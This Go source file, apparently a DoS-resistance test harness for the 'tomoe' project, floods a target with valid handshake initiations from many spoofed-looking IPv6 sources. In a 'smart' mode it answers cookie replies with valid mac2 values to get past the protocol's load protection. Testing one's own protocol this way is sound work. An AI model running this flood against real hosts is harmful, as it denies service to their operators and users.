package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"net/netip"
	"runtime"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/ipv6"
	"golang.org/x/sys/unix"

	"github.com/tomoe-net/tomoe/internal/identity"
	"github.com/tomoe-net/tomoe/internal/noise"
)

// Sources is one way of spreading a flood over source addresses.
type Sources struct {
	Addrs []netip.Addr
	// oob holds each address's IPV6_PKTINFO control message, marshalled
	// once: sending costs no per-packet work in this program.
	oob [][]byte
	// index maps an address back to its position (for cookie replies).
	index map[netip.Addr]int
}

// oneSlash64 returns n distinct addresses inside prefix (a /64): the same
// network, interface identifiers spread over the 64 bits.
func oneSlash64(prefix netip.Prefix, n int) (*Sources, error) {
	if prefix.Bits() != 64 || !prefix.Addr().Is6() {
		return nil, fmt.Errorf("%s: want an IPv6 /64", prefix)
	}
	hi, _ := split(prefix.Masked().Addr())
	addrs := make([]netip.Addr, n)
	for i := range addrs {
		// An odd multiplier is a bijection mod 2^64: distinct, and
		// nothing like a counter.
		addrs[i] = join(hi, uint64(i+1)*0x9e3779b97f4a7c15)
	}
	return newSources(addrs), nil
}

// manySlash64 returns one address in each of n distinct /64s of prefix
// (at most a /48 for 65,536 of them): the i-th /64 of the prefix, a fixed
// interface identifier.
func manySlash64(prefix netip.Prefix, n int) (*Sources, error) {
	room := 64 - prefix.Bits() // bits that number the /64s
	if !prefix.Addr().Is6() || room < 0 || room < 32 && n > 1<<room {
		return nil, fmt.Errorf("%s: want an IPv6 prefix with room for %d /64s", prefix, n)
	}
	hi, _ := split(prefix.Masked().Addr())
	addrs := make([]netip.Addr, n)
	for i := range addrs {
		addrs[i] = join(hi|uint64(i), 1)
	}
	return newSources(addrs), nil
}

func split(a netip.Addr) (hi, lo uint64) {
	b := a.As16()
	return binary.BigEndian.Uint64(b[:8]), binary.BigEndian.Uint64(b[8:])
}

func join(hi, lo uint64) netip.Addr {
	var b [16]byte
	binary.BigEndian.PutUint64(b[:8], hi)
	binary.BigEndian.PutUint64(b[8:], lo)
	return netip.AddrFrom16(b)
}

func newSources(addrs []netip.Addr) *Sources {
	s := &Sources{Addrs: addrs, oob: make([][]byte, len(addrs)), index: make(map[netip.Addr]int, len(addrs))}
	for i, a := range addrs {
		s.oob[i] = (&ipv6.ControlMessage{Src: a.AsSlice()}).Marshal()
		s.index[a] = i
	}
	return s
}

// Pool builds n valid initiations to victim, each from its own throwaway
// key, stamped now, on all CPUs (three X25519 each).
func Pool(victim identity.PublicKey, n int) ([][]byte, error) {
	pool := make([][]byte, n)
	errs := make([]error, n)
	var next atomic.Int64
	var wg sync.WaitGroup
	for range runtime.NumCPU() {
		wg.Go(func() {
			ts := noise.TimestampOf(time.Now())
			for {
				i := int(next.Add(1) - 1)
				if i >= n {
					return
				}
				k, err := identity.GeneratePrivateKey()
				if err != nil {
					errs[i] = err
					return
				}
				pool[i], errs[i] = noise.Initiation(k, victim, ts, uint32(i)*2654435761)
			}
		})
	}
	wg.Wait()
	return pool, errors.Join(errs...)
}

// Stats are a flood's counters so far.
type Stats struct {
	Mode    string  `json:"mode"`
	Target  string  `json:"target"`
	Sources int     `json:"sources"`
	Running bool    `json:"running"`
	Rate    float64 `json:"rate,omitempty"` // the pace asked for (packets/s)
	Seconds float64 `json:"seconds"`        // since the flood started (until it stopped)
	// Packets are the initiations the kernel took (sendmmsg's count);
	// SendErrors the sendmmsg calls that failed.
	Packets    uint64 `json:"packets"`
	SendErrors uint64 `json:"send_errors"`
	// Smart floods only: cookie replies received, those that opened, the
	// sources holding a cookie, and initiations sent with a valid mac2.
	Replies     uint64 `json:"replies,omitempty"`
	Cookies     uint64 `json:"cookies,omitempty"`
	WithCookie  int64  `json:"sources_with_cookie,omitempty"`
	MAC2Packets uint64 `json:"mac2_packets,omitempty"`
}

// Flood is one running flood.
type Flood struct {
	mode   string
	pc     *ipv6.PacketConn
	conn   *net.UDPConn
	target *net.UDPAddr
	victim identity.PublicKey
	src    *Sources
	pool   [][]byte
	smart  bool
	rate   float64 // packets per second; 0 = unpaced
	// mac2 holds, per source, its pool message with the mac2 of the
	// latest cookie that source received (smart floods).
	mac2 []atomic.Pointer[[]byte]

	stop  atomic.Bool
	wg    sync.WaitGroup
	start time.Time
	end   atomic.Int64 // unix ns; 0 while running

	packets, sendErrors, replies, cookies, mac2Packets atomic.Uint64
	withCookie                                         atomic.Int64
}

// startFlood starts sending pool to target from src's addresses, one
// batch of batch messages per sendmmsg, at most rate packets per second
// (0: as fast as it goes). A smart flood also reads cookie replies and
// answers them.
func startFlood(mode string, conn *net.UDPConn, pc *ipv6.PacketConn, target netip.AddrPort, victim identity.PublicKey, src *Sources, pool [][]byte, smart bool, batch int, rate float64) *Flood {
	f := &Flood{
		mode: mode, pc: pc, conn: conn, target: net.UDPAddrFromAddrPort(target), victim: victim,
		src: src, pool: pool, smart: smart, rate: rate, start: time.Now(),
	}
	if smart {
		f.mac2 = make([]atomic.Pointer[[]byte], len(src.Addrs))
		conn.SetReadDeadline(time.Time{})
		f.wg.Go(f.readCookies)
	}
	f.wg.Go(func() { f.send(batch) })
	return f
}

// message is what source s sends this time, and whether it carries a
// cookie's mac2.
func (f *Flood) message(s, seq int) ([]byte, bool) {
	if f.smart {
		if m := f.mac2[s].Load(); m != nil {
			return *m, true
		}
		return f.pool[s%len(f.pool)], false
	}
	return f.pool[seq%len(f.pool)], false
}

func (f *Flood) send(batch int) {
	// The sending goroutine keeps its thread: one core's worth of
	// sendmmsg calls.
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	msgs := make([]ipv6.Message, batch)
	for i := range msgs {
		msgs[i].Buffers = make([][]byte, 1)
		msgs[i].Addr = f.target
	}
	s, seq := 0, 0
	for !f.stop.Load() {
		withMAC2 := 0
		for i := range msgs {
			m, ok := f.message(s, seq)
			if ok {
				withMAC2++
			}
			msgs[i].Buffers[0] = m
			msgs[i].OOB = f.src.oob[s]
			if s++; s == len(f.src.Addrs) {
				s = 0
			}
			if seq++; seq == len(f.pool)*len(f.src.Addrs) {
				seq = 0
			}
		}
		if f.rate > 0 {
			// Paced: each batch waits for its place in the schedule.
			due := f.start.Add(time.Duration(float64(f.packets.Load()) / f.rate * float64(time.Second)))
			if d := time.Until(due); d > 0 {
				time.Sleep(d)
			}
		}
		n, err := f.pc.WriteBatch(msgs, 0)
		if n > 0 {
			f.packets.Add(uint64(n))
			// Close enough: the batch's share, whichever were taken.
			f.mac2Packets.Add(uint64(withMAC2 * n / len(msgs)))
		}
		if err != nil {
			f.sendErrors.Add(1)
			if errors.Is(err, net.ErrClosed) {
				return
			}
		}
	}
}

// readCookies opens the cookie replies that arrive at the flood's
// addresses and keeps, per source, a message with the cookie's mac2: what
// an attacker who owns its /64s can do.
func (f *Flood) readCookies() {
	const batch = 64
	msgs := make([]ipv6.Message, batch)
	for i := range msgs {
		msgs[i].Buffers = [][]byte{make([]byte, 256)}
		msgs[i].OOB = ipv6.NewControlMessage(ipv6.FlagDst)
	}
	for !f.stop.Load() {
		n, err := f.pc.ReadBatch(msgs, 0)
		if err != nil {
			if errors.Is(err, net.ErrClosed) || f.stop.Load() {
				return
			}
			continue
		}
		for _, m := range msgs[:n] {
			reply := m.Buffers[0][:m.N]
			if len(reply) != noise.CookieSize || reply[0] != noise.TypeCookie {
				continue
			}
			f.replies.Add(1)
			dst, ok := pktinfoDst(m.OOB[:m.NN])
			if !ok {
				continue
			}
			s, ok := f.src.index[dst]
			if !ok {
				continue
			}
			base := f.pool[s%len(f.pool)]
			c, err := noise.OpenCookieReply(reply, f.victim, base)
			if err != nil {
				continue
			}
			msg := append([]byte(nil), base...)
			noise.SetMAC2(msg, c)
			if f.mac2[s].Swap(&msg) == nil {
				f.withCookie.Add(1)
			}
			f.cookies.Add(1)
		}
	}
}

// pktinfoDst finds the destination address in an IPV6_PKTINFO control
// message (without allocating, unlike ipv6.ControlMessage.Parse).
func pktinfoDst(oob []byte) (netip.Addr, bool) {
	const hdr = unix.SizeofCmsghdr
	for len(oob) >= hdr {
		l := int(binary.NativeEndian.Uint64(oob[:8]))
		level := int32(binary.NativeEndian.Uint32(oob[8:12]))
		typ := int32(binary.NativeEndian.Uint32(oob[12:16]))
		if l < hdr || l > len(oob) {
			return netip.Addr{}, false
		}
		if level == unix.IPPROTO_IPV6 && typ == unix.IPV6_PKTINFO && l >= hdr+16 {
			return netip.AddrFrom16([16]byte(oob[hdr : hdr+16])), true
		}
		oob = oob[min(len(oob), (l+7)&^7):]
	}
	return netip.Addr{}, false
}

// Stop ends the flood and waits for its goroutines.
func (f *Flood) Stop() {
	f.stop.Store(true)
	if f.smart {
		// Unblock the reader.
		f.conn.SetReadDeadline(time.Now())
	}
	f.wg.Wait()
	f.end.Store(time.Now().UnixNano())
}

// Stats returns the counters so far.
func (f *Flood) Stats() Stats {
	end := time.Now()
	running := true
	if ns := f.end.Load(); ns != 0 {
		end, running = time.Unix(0, ns), false
	}
	return Stats{
		Mode: f.mode, Target: f.target.String(), Sources: len(f.src.Addrs), Running: running, Rate: f.rate,
		Seconds: end.Sub(f.start).Seconds(), Packets: f.packets.Load(), SendErrors: f.sendErrors.Load(),
		Replies: f.replies.Load(), Cookies: f.cookies.Load(), WithCookie: f.withCookie.Load(), MAC2Packets: f.mac2Packets.Load(),
	}
}
